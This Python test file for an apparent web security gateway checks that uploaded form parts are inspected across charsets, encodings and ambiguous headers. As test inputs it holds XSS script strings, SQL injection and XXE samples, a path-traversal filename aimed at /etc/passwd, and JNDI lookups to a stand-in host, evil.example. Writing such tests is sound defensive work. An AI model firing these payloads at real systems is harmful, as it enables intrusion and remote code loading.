"""Multipart forms: what the application reads of them was inspected, whatever charset a part is in."""

from __future__ import annotations

import base64
import json
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from starlette.datastructures import Headers, UploadFile
from starlette.formparsers import FormParser, MultiPartException, MultiPartParser

from gatewright.foundation import SecurityFoundation
from gatewright.web import MAX_FIELDS, Problem
from tests.web.bodies import understand
from tests.web.echo import SCRIPT, SQL, XXE, code_of, echo, part

FORM = "multipart/form-data; boundary=x"
UMLAUT = "Müller"


@pytest.fixture
async def client(foundation: SecurityFoundation) -> AsyncIterator[httpx.AsyncClient]:
    async with echo(foundation) as opened:
        yield opened


def file_part(data: bytes, kind: str | None, *, filename: str = "a.bin", name: str = "f") -> bytes:
    headers = f'Content-Disposition: form-data; name="{name}"; filename="{filename}"'
    return part(headers if kind is None else f"{headers}\r\nContent-Type: {kind}", data)


async def sent(client: httpx.AsyncClient, body: bytes, content_type: str = FORM) -> tuple[int, str | None]:
    return code_of(await client.post("/form", content=body, headers={"content-type": content_type}))


def svg(encoding: str | None, title: str = UMLAUT, script: str = SCRIPT) -> str:
    declaration = "" if encoding is None else f'<?xml version="1.0" encoding="{encoding}"?>'
    return f'{declaration}<svg xmlns="http://www.w3.org/2000/svg"><title>{title}</title>{script}</svg>'


def invoice(encoding: str | None, buyer: str = UMLAUT) -> str:
    declaration = "" if encoding is None else f'<?xml version="1.0" encoding="{encoding}"?>'
    return f'{declaration}<invoice><buyer>{buyer} GmbH</buyer><total currency="EUR">12,50</total></invoice>'


ATTACKS = {
    "image/svg+xml": svg("ISO-8859-1"),
    "text/html": f"<html><body>{UMLAUT}{SCRIPT}</body></html>",
    "application/xml": f'<?xml version="1.0" encoding="ISO-8859-1"?>{XXE}<!-- {UMLAUT} -->',
    "application/json": json.dumps({"name": UMLAUT, "q": SQL}, ensure_ascii=False),
    "text/csv": f"name;q\r\n{UMLAUT};{SQL}\r\n",
    "application/javascript": f'document.write("{SCRIPT}"); // {UMLAUT}',
}
BINARY_NAMES = [None, "application/octet-stream", "image/png", "application/vnd.ms-excel", "x/y", "video/mp4"]


@pytest.mark.parametrize("kind", ATTACKS)
async def test_a_text_file_with_a_byte_that_is_not_utf8_is_inspected(client: httpx.AsyncClient, kind: str) -> None:
    """F26: such a file passed without inspection."""
    assert (await sent(client, file_part(ATTACKS[kind].encode("latin-1"), kind)))[0] == 403


@pytest.mark.parametrize("kind", BINARY_NAMES)
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=list(ATTACKS))
async def test_text_that_calls_itself_binary_is_inspected(
    client: httpx.AsyncClient, kind: str | None, attack: str
) -> None:
    assert (await sent(client, file_part(attack.encode("latin-1"), kind)))[0] == 403


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"])
@pytest.mark.parametrize(
    "kind", ["image/svg+xml", "text/html", "application/json", None, "application/octet-stream", "image/png"]
)
async def test_a_file_in_utf16_is_inspected_with_and_without_a_mark(
    client: httpx.AsyncClient, kind: str | None, encoding: str
) -> None:
    attack = ATTACKS["application/json"] if kind == "application/json" else svg(None)
    for data in (
        attack.encode(encoding),
        b"\xfe\xff" + attack.encode("utf-16-be"),
        b"\xff\xfe" + attack.encode("utf-16-le"),
    ):
        assert (await sent(client, file_part(data, kind)))[0] in (400, 403)


@pytest.mark.parametrize(
    ("charset", "encoding"),
    [
        ("ISO-8859-1", "latin-1"),
        ("iso_8859-15", "iso8859-15"),
        ("windows-1252", "cp1252"),
        ("Windows-1251", "cp1251"),
        ("UTF-16", "utf-16"),
        ("utf-16le", "utf-16-le"),
        ("UTF-16BE", "utf-16-be"),
        ("utf-8", "utf-8"),
    ],
)
async def test_a_file_is_read_in_the_charset_that_it_declares(
    client: httpx.AsyncClient, charset: str, encoding: str
) -> None:
    word = "Привет" if "1251" in charset else UMLAUT
    for kind in (f"text/csv; charset={charset}", f'application/xml;charset="{charset}"'):
        assert await sent(client, file_part(invoice(None, word).encode(encoding), kind)) == (200, None)
        assert (await sent(client, file_part(svg(None, word).encode(encoding), kind)))[0] == 403
    by_itself = "UTF-16" if "16" in charset else charset
    assert await sent(client, file_part(invoice(by_itself, word).encode(encoding), "text/xml")) == (200, None)
    assert (await sent(client, file_part(svg(by_itself, word).encode(encoding), "text/xml")))[0] == 403


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("text/html; charset=utf-7", b"+ADw-script+AD4-alert(1)"),
        ("text/html; charset=cp037", SCRIPT.encode("cp037")),
        ("text/plain; charset=rot13", b"<fpevcg>"),
        ("text/plain; charset=" + "a" * 5_000, b"a"),
        ("text/plain; charset=utf-8", b"a \xff b"),
        ("text/plain; charset=utf-8; charset=utf-16", b"ab"),
        ("text/plain; charset*0=utf; charset*1=-16", b"ab"),
        ("text/xml", svg("UTF-7").encode()),
        ("text/xml; charset=utf-8", svg("ISO-8859-1").encode()),
        ("text/xml; charset=windows-1252", svg("ISO-8859-5").encode()),
        ("text/xml", b"\xff\xfe" + svg("ISO-8859-1").encode("utf-16-le")),
        ("text/xml", b"\xef\xbb\xbf" + svg("UTF-16").encode()),
        ("image/png", svg("EBCDIC-CP-US").encode("cp037")),
        ("text/xml", b'<?xml version="1.0"' + b" " * 5_000 + b'encoding="UTF-7"?><a/>'),
        ("text/xml", b"<?xml version='1.0' encoding=utf-7?><a/>"),
    ],
)
async def test_a_file_that_cannot_be_read_for_certain_is_refused(
    client: httpx.AsyncClient, kind: str, data: bytes
) -> None:
    assert (await sent(client, file_part(data, kind)))[0] == 400


@pytest.mark.parametrize("charset", ["iso-8859-1", "utf-16", "UTF-7", "us-ascii", "cp037", '"latin1"', "shift_jis"])
async def test_a_form_in_another_charset_is_refused(client: httpx.AsyncClient, charset: str) -> None:
    field = 'Content-Disposition: form-data; name="a"'
    assert await sent(client, part(field, b"b"), f"{FORM}; charset={charset}") == (400, "INVALID_ENCODING")
    assert await sent(client, part(f"{field}\r\nContent-Type: text/plain; charset={charset}", b"b")) == (
        400,
        "INVALID_ENCODING",
    )
    named = part('Content-Disposition: form-data; name="_charset_"', charset.strip('"').encode())
    assert await sent(client, named) == (400, "INVALID_ENCODING")
    plain = {"content-type": "application/x-www-form-urlencoded"}
    answer = await client.post("/form", content=f"_charset_={charset.strip(chr(34))}&a=b".encode(), headers=plain)
    assert code_of(answer) == (400, "INVALID_ENCODING")


@pytest.mark.parametrize("charset", ["utf-8", "UTF-8", '"utf-8"', "utf8"])
async def test_a_form_that_says_that_it_is_utf8_is_read(client: httpx.AsyncClient, charset: str) -> None:
    field = f'Content-Disposition: form-data; name="a"\r\nContent-Type: text/plain; charset={charset}'
    assert await sent(client, part(field, UMLAUT.encode()), f"{FORM}; charset={charset}") == (200, None)
    named = part('Content-Disposition: form-data; name="_charset_"', b"UTF-8")
    assert await sent(client, named) == (200, None)


def test_a_dropped_byte_joins_nothing_unseen() -> None:
    """An application that ignores what it cannot read would see the tag."""
    (*_, ignoring) = understand(file_part(b"<scr\xffipt>alert(1)</script>", "text/html"), FORM)["f"]
    assert ignoring == "<script>alert(1)</script>"


@pytest.mark.parametrize(
    ("headers", "data"),
    [
        (
            'Content-Disposition: form-data; name="f"; filename="a"; filename*=UTF-8\'\'..%2F..%2F..%2Fetc%2Fpasswd',
            b"\x00",
        ),
        (
            "Content-Disposition: form-data; name=f; filename=a; filename*=utf-8'en'%3Cscript%3Ealert(1)%3C/script%3E",
            b"\x00",
        ),
        ("Content-Disposition: form-data; name=f; filename*=iso-8859-1''%3Cscript%3Ealert(%E4)%3C/script%3E", b"a"),
        (f'Content-Disposition: form-data; name="f"; filename="{SCRIPT}"', b"\x00"),
        (f'Content-Disposition: form-data; name="{SCRIPT}"; filename="a"', b"\x00"),
        (f'Content-Disposition: form-data; name="f"; filename="C:\\{SCRIPT}\\a.txt"', b"\x00"),
        (f'Content-Disposition: form-data; name="f"; title="{SCRIPT}"', b"a"),
        (f'Content-Disposition: form-data; name="f"\r\nX-Comment: {SCRIPT}', b"a"),
        ('Content-Disposition: form-data; name="f"\r\nX-A: b\r\nX-A: ${jndi:ldap://evil.example/a}', b"a"),
        (
            'Content-Disposition: form-data; name="f"; filename="a"\r\nContent-Type: ${jndi:ldap://evil.example/a}',
            b"\x00",
        ),
    ],
)
async def test_headers_of_parts_are_inspected(client: httpx.AsyncClient, headers: str, data: bytes) -> None:
    assert await sent(client, part(headers, data)) == (403, "THREAT_DETECTED")


@pytest.mark.parametrize(
    "headers",
    [
        'Content-Disposition: form-data; name="a"; name="b"',
        'Content-Disposition: form-data; name="a"; filename="b"; filename="c"',
        'Content-Disposition: form-data; name="a"; filename*0="b"; filename*1="c"',
        "Content-Disposition: form-data; name=\"a\"; filename*=utf-7''%2B",
        'Content-Disposition: form-data; name="a"\r\nContent-Disposition: form-data; name="b"',
        'Content-Disposition: form-data; name="a"\r\nContent-Type: text/a\r\nContent-Type: text/b',
        'Content-Disposition: form-data; name="a"\r\nContent-Type: multipart/mixed; boundary=y',
        'Content-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64',
        'Content-Disposition: form-data; name="a"; filename="b"\r\nContent-Encoding: gzip',
    ],
)
async def test_parts_that_two_parsers_read_differently_are_refused(client: httpx.AsyncClient, headers: str) -> None:
    assert (await sent(client, part(headers, b"YQ==")))[0] == 400


@pytest.mark.parametrize(
    "content_type",
    [
        "multipart/form-data; boundary=x; boundary=y",
        "multipart/form-data; boundary=y; boundary*=utf-8''x",
        "multipart/form-data; boundary=y; boundary*0=x",
        'multipart/form-data; boundary="x\\"; boundary=y',
        'multipart/form-data; boundary="x',
        "multipart/form-data; boundary=x, y",
        "multipart/form-data",
        "multipart/form-data; boundary=",
    ],
)
async def test_a_boundary_that_two_parsers_read_differently_is_refused(
    client: httpx.AsyncClient, content_type: str
) -> None:
    assert (await sent(client, part('Content-Disposition: form-data; name="a"', b"b"), content_type))[0] == 400


@pytest.mark.parametrize("boundary", ["----WebKitFormBoundary7MA4YWxkTrZu0gW", "----=_Part_1_22.333", "a/b:c?d", "'x'"])
async def test_boundaries_of_real_clients_are_read(client: httpx.AsyncClient, boundary: str) -> None:
    body = part('Content-Disposition: form-data; name="a"', SQL.encode(), boundary=boundary.encode())
    for content_type in (f"multipart/form-data; boundary={boundary}", f'Multipart/Form-Data;boundary="{boundary}";'):
        assert (await sent(client, body, content_type))[0] == 403
        assert await sent(client, body.replace(SQL.encode(), b"ok"), content_type) == (200, None)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR<script>alert(1)</script>", "image/png"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "image/jpeg"),
        (
            b"PK\x03\x04\x14\x00\x06\x00\xff<script>",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (bytes(range(256)) * 40, "application/octet-stream"),
        (b"\x00\x01\xff' UNION SELECT", "application/octet-stream; charset=binary"),
        (b"", "application/octet-stream"),
    ],
)
async def test_binary_files_pass(client: httpx.AsyncClient, data: bytes, kind: str) -> None:
    assert await sent(client, file_part(data, kind)) == (200, None)


async def test_ordinary_files_pass(client: httpx.AsyncClient) -> None:
    price_list = "Artikel;Preis\r\nStuhl für Büro;1,50 €\r\n" * 200
    for data in (
        price_list.encode("cp1252"),
        price_list.encode(),
        b"\xef\xbb\xbf" + price_list.encode(),
        price_list.encode("utf-16"),
    ):
        for kind in ("text/csv", "application/vnd.ms-excel", None):
            assert await sent(client, file_part(data, kind, filename="Preisliste für Müller.csv")) == (200, None)


async def test_a_file_in_the_place_of_a_password_is_inspected(client: httpx.AsyncClient) -> None:
    assert (await sent(client, file_part(svg(None).encode(), "image/svg+xml", name="password")))[0] == 403
    secret = part('Content-Disposition: form-data; name="password"', SQL.encode())
    assert await sent(client, secret) == (200, None)


def test_json_in_a_part_is_inspected_as_json() -> None:
    escaped = b'{"a": "\\u003cscript\\u003e"}'
    assert understand(file_part(escaped, "application/json"), FORM)["f"] == {"a": "<script>"}
    assert understand(file_part(escaped[:-1], "application/json"), FORM)["f"] == escaped[:-1].decode()


def test_the_number_of_parts_is_bounded() -> None:
    one = b'--x\r\nContent-Disposition: form-data; name="a"; filename="b"\r\n\r\n\x00\r\n'
    assert len(understand(one * MAX_FIELDS + b"--x--\r\n", FORM)["a.filename"]) == MAX_FIELDS
    with pytest.raises(Problem) as refused:
        understand(one * (MAX_FIELDS + 1) + b"--x--\r\n", FORM)
    assert refused.value.code == "TOO_MANY_FIELDS"


NAMES = st.text(st.characters(exclude_characters='\r\n\0"\\', exclude_categories=["Cs"]), min_size=1, max_size=12)
TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
PIECES = st.sampled_from(
    [
        b"--x",
        b"\r\n",
        b"--",
        b"--x--",
        b"Content-Disposition: ",
        b"form-data",
        b'; name="a"',
        b'; filename="b"',
        b"\r\n\r\n",
        b"\xff",
        b"a",
        b"\x00",
        b": ",
    ]
)


def inspected(value: Any) -> list[str]:
    """Every text in a value."""
    if isinstance(value, dict):
        return [text for one in value.values() for text in inspected(one)]
    if isinstance(value, list):
        return [text for one in value for text in inspected(one)]
    return [value]


async def read_by_starlette(body: bytes, content_type: str) -> list[tuple[str, Any]]:
    async def stream() -> AsyncIterator[bytes]:
        yield body

    headers = Headers({"content-type": content_type})
    parser: Any = MultiPartParser if content_type.startswith("multipart/") else FormParser
    return list((await parser(headers, stream()).parse()).multi_items())


@given(st.lists(st.tuples(NAMES, TEXTS, st.none() | NAMES), min_size=1, max_size=5))
@settings(deadline=None)
async def test_what_starlette_reads_was_inspected(fields: list[tuple[str, str, str | None]]) -> None:
    parts = [
        (name, (filename, text.encode()) if filename is not None else (None, text.encode()))
        for name, text, filename in fields
    ]
    request = httpx.Request("POST", "http://test", files=parts)
    body, content_type = request.read(), request.headers["content-type"]
    try:
        seen = inspected(understand(body, content_type))
    except Problem:
        return
    for name, item in await read_by_starlette(body, content_type):
        if isinstance(item, UploadFile):
            assert item.filename in seen
            content = (await item.read()).decode()
            assert content in seen or content.removeprefix("\ufeff") in seen
        else:
            assert name == "_charset_" or item in seen


@given(st.lists(PIECES, max_size=30))
@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
async def test_what_is_read_of_a_broken_form_was_inspected(pieces: list[bytes]) -> None:
    body = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + b"".join(pieces) + b"\r\n--x--\r\n"
    try:
        seen = inspected(understand(body, FORM))
    except Problem:
        return
    try:
        read = await read_by_starlette(body, FORM)
    except MultiPartException:
        return
    for _, item in read:
        if isinstance(item, str):
            assert item in seen
        else:
            content = await item.read()
            assert content.decode("latin-1") in seen or b"\x00" in content or content.decode("utf-8", "ignore") in seen


@given(st.lists(st.tuples(TEXTS, TEXTS), max_size=8))
async def test_what_starlette_reads_of_an_encoded_form_was_inspected(pairs: list[tuple[str, str]]) -> None:
    body = httpx.QueryParams(pairs).__str__().encode()
    kind = "application/x-www-form-urlencoded"
    try:
        seen = understand(body, kind) or {}
    except Problem:
        return
    for name, item in await read_by_starlette(body, kind):
        value = seen[name]
        assert item == value or item in value


async def test_a_file_is_handed_on_as_it_was_sent(client: httpx.AsyncClient) -> None:
    data = invoice("ISO-8859-1").encode("latin-1")
    answer = await client.post("/form", content=file_part(data, "text/xml"), headers={"content-type": FORM})
    assert base64.b64decode(answer.json()["items"][0][1]) == data
